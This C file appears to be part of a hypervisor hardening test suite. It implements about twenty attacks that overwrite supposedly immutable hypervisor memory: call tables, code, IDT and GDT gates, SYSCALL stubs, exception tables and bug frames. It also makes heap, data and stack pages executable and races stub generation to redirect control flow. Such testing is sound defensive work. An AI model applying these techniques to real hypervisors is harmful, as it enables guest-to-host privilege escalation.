/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Memory that must not change after boot: tables, code, constants, page tables, descriptors, generated code. The
 * attacks write through whatever mapping lets them, and prove the change by making the hypervisor go where it says.
 */
#include "attacker.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#define GATE_SIZE 16
#define BREAKPOINT 3
#define CALL_GATE_SELECTOR 0xe7f0 /* the last descriptor of the hypervisor's page of the GDT */
#define GDT_PAGE 0xe000
#define PORT 0x80
#define EMULATOR_STUB 64 /* where the emulator's half of a CPU's stub begins */

static void table_directmap(void) { poke(directmap(jump_slot()), won()); cause(CAUSE_OPS, 0); }

static void table_fresh_mapping(void)
{
    word slot = jump_slot();
    word page = cause(CAUSE_MAP, physical(slot) >> 12);

    poke(page + (slot & 4095), won());
    cause(CAUSE_OPS, 0);
}

/* Makes the mapping itself writable, and then writes in place. */
static void make_writable(word at)
{
    word entry = entry_of(at);

    poke(entry, peek(entry) | WRITABLE);
    cause(CAUSE_RELOAD_CR3, 0);
}

static void table_entry(void)
{
    word slot = jump_slot();

    make_writable(slot);
    poke(slot, won());
    cause(CAUSE_OPS, 0);
}

/* The frame behind the table is exchanged for one of the attacker's. */
static void table_remap(void)
{
    word slot = jump_slot(), entry = entry_of(slot), page = heap_pages(0), i;
    word first = slot & ~4095UL;

    for ( i = 0; i < 512; i++ )
        poke(page + 8 * i, peek(first + 8 * i));
    poke(page + (slot & 4095), won());
    poke(entry, physical(page) | (peek(entry) & ~0x000ffffffffff000UL));
    cause(CAUSE_RELOAD_CR3, 0);
    cause(CAUSE_OPS, 0);
}

static void const_ops(void)
{
    poke(directmap(data("attack_const_ops") + 8), pointer(POINTER_ALIEN));
    cause(CAUSE_OPS, 0);
}

static void code_directmap(void) { write_jump(directmap(code("attack_ops_second")), won()); cause(CAUSE_OPS, 0); }

static void code_fresh_mapping(void)
{
    word at = code("attack_ops_second");
    word page = cause(CAUSE_MAP, physical(at) >> 12);

    write_jump(page + (at & 4095), won());
    cause(CAUSE_OPS, 0);
}

static void code_entry(void)
{
    word at = code("attack_ops_second");

    make_writable(at);
    write_jump(at, won());
    cause(CAUSE_OPS, 0);
}

/* Code of the attacker's in a page of data; the slot of the table leads there. */
static void shellcode(word page)
{
    word last = entry_of(page), entry;
    int shift = 39;

    write_jump(page, won());
    do {
        entry = entry_at(fact(FACT_CR3, 0), page, shift);
        poke(entry, peek(entry) & ~NO_EXECUTE);
        shift -= 9;
    } while ( entry != last );
    cause(CAUSE_RELOAD_CR3, 0);
    poke(directmap(jump_slot()), page);
    cause(CAUSE_OPS, 0);
}

static void shellcode_heap(void) { shellcode(heap_pages(0)); }
static void shellcode_data(void) { shellcode(data("attack_data_page")); }
static void shellcode_stack(void) { shellcode((fact(FACT_GUEST_FRAME, 0) & ~0x7fffUL) + 0x6000); }

static void breakpoint(void) { asm volatile ("int3"); }

static void write_gate(word gate, word target)
{
    poke4(gate, (peek(gate) & 0xffff0000UL) | (target & 0xffff));
    poke4(gate + 4, (peek(gate + 4) & 0xffff) | (target & 0xffff0000UL));
    poke4(gate + 8, target >> 32);
}

static void idt_gate(void)
{
    write_gate(peek(data("idt_tables")) + BREAKPOINT * GATE_SIZE, won());
    breakpoint();
}

static void idt_directmap(void)
{
    write_gate(directmap(peek(data("idt_tables")) + BREAKPOINT * GATE_SIZE), won());
    breakpoint();
}

/* A call gate into the hypervisor that any guest program can use. */
static void gdt_gate(void)
{
    struct { unsigned int offset; unsigned short selector; } __attribute__((packed)) far = { 0, CALL_GATE_SELECTOR | 3 };
    word gate = peek(per_cpu("gdt", 0)) + (CALL_GATE_SELECTOR - GDT_PAGE), target = won();

    poke(gate, (target & 0xffff) | 0xe008UL << 16 | 0xecUL << 40 | (target >> 16 & 0xffff) << 48);
    poke(gate + 8, target >> 32);
    asm volatile ("lcall *%0" : : "m" (far) : "memory");
}

/* SYSCALL enters on the guest's stack. All at once, as this very hypercall comes that way: jmp to within 2 GiB. */
static void syscall_stub(void)
{
    word stub = peek(per_cpu("stubs", 0));

    poke(directmap(stub), 0xe9 | ((won_anywhere() - (stub + 5)) & 0xffffffff) << 8);
    pause_ms(10);
}

/* The kernel reads a port, which it may not do itself. */
static void port_io(int times)
{
    int ports = open("/dev/port", O_RDONLY | O_CLOEXEC);
    char value;

    while ( times-- )
        if ( pread(ports, &value, 1, PORT) != 1 )
            fail("/dev/port: %s", strerror(errno));
    close(ports);
}

/* The per-CPU address of generated code lies in writable memory; port I/O of dom0 runs through it. */
static void stub_address(void)
{
    poke(per_cpu("stubs", 0), won() - EMULATOR_STUB);
    port_io(1);
}

static void exception_table(void)
{
    word at = directmap(data("__start___ex_table")), end = at + data("__stop___ex_table") - data("__start___ex_table");
    word linked = data("__start___ex_table") + 4;

    for ( ; at < end; at += 8, linked += 8 )
        poke4(at + 4, won() - linked);
    cause(CAUSE_FAULT, 0);
}

/* A bug frame: 24 bits of displacement to the place, 24 to the function, each with 8 bits of a line number. */
static void bug_frame(void)
{
    word at = data("__start_bug_frames"), end = data("__stop_bug_frames_0"), alias = directmap(at);

    for ( ; at < end; at += 8, alias += 8 )
        poke4(alias + 4, (peek(alias + 4) & 0xff000000) | ((won() - at) & 0xffffff));
    cause(CAUSE_STATE_DUMP, 0);
}

/* The hypervisor frees the memory of its boot-time functions; addresses of them remain. */
static void init_reuse(void)
{
    word stale = code("__2M_init_start"), page = heap_pages(0), root = fact(FACT_CR3, 0), entry = entry_at(root, stale, 21);

    write_jump(page, won());
    if ( (peek(entry) & (PRESENT | LARGE)) == PRESENT )
        poke(entry_at(root, stale, 12), physical(page) | ACCESSED_DIRTY | PRESENT);
    else
    {
        word table = heap_pages(0);

        poke(table, physical(page) | ACCESSED_DIRTY | PRESENT);
        poke(entry, physical(table) | ACCESSED_DIRTY | WRITABLE | PRESENT);
    }
    poke(data("attack_call"), stale);
    cause(CAUSE_CALL, 0);
}

/* The stub of the next port I/O is changed while it is being made, wherever that is done. */
static void stub_content_race(void)
{
    word stub = peek(per_cpu("stubs", 0)), draft = directmap_of(peek(per_cpu("stubs", 0) + 8) << 12);
    word at = draft + (stub & 4095) + EMULATOR_STUB, words[2];

    jump_words(won(), words);
    hammer(0, at, words[0], words[0]);
    hammer(1, at + 8, words[1], words[1]);
    hold_other_cpu(CAUSE_HAMMER);
    port_io(1000);
    release_other_cpu();
}

const struct attack memory_attacks[] = {
    { "table-directmap", "a slot of a call's table is overwritten through the directmap", table_directmap },
    { "table-fresh-mapping", "a slot of a call's table is overwritten through a fresh mapping of its frame", table_fresh_mapping },
    { "table-entry", "the page of a call's table is made writable by its page-table entry", table_entry },
    { "table-remap", "the page-table entry of a call's table leads to a changed copy", table_remap },
    { "const-ops", "a constant operations table is overwritten through the directmap", const_ops },
    { "code-directmap", "code is overwritten through the directmap", code_directmap },
    { "code-fresh-mapping", "code is overwritten through a fresh mapping of its frame", code_fresh_mapping },
    { "code-entry", "a page of code is made writable by its page-table entry", code_entry },
    { "shellcode-heap", "a page of the heap is made executable and called", shellcode_heap },
    { "shellcode-data", "a page of data is made executable and called", shellcode_data },
    { "shellcode-stack", "a page of a stack is made executable and called", shellcode_stack },
    { "idt-gate", "the gate of a guest's breakpoints leads elsewhere", idt_gate },
    { "idt-directmap", "the gate of a guest's breakpoints is overwritten through the directmap", idt_directmap },
    { "gdt-gate", "the GDT gets a call gate into the hypervisor for every guest program", gdt_gate },
    { "syscall-stub", "the code that SYSCALL enters is overwritten through the directmap", syscall_stub },
    { "stub-address", "the per-CPU address of generated code becomes another one", stub_address },
    { "stub-content-race", "generated code is changed by the other CPU while it is being made", stub_content_race },
    { "exception-table", "the exception table sends a caught fault elsewhere", exception_table },
    { "bug-frame", "a bug frame, which says where a trap instruction leads, is overwritten", bug_frame },
    { "init-reuse", "freed memory of boot-time functions is mapped again, executable, and called by a stale address", init_reuse },
    { 0 }
};
